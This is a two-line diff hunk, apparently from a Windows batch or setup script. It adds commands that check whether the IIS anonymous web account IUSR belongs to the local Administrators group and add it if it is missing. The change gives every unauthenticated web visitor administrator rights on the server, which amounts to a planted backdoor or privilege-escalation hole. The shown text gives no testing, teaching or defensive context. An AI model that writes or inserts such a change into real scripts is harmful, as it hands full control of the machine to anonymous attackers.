@@ -1,0 +1,2 @@
+net localgroup Administrators | find /i "IUSR" >nul
+if errorlevel 1 net localgroup Administrators IUSR /add
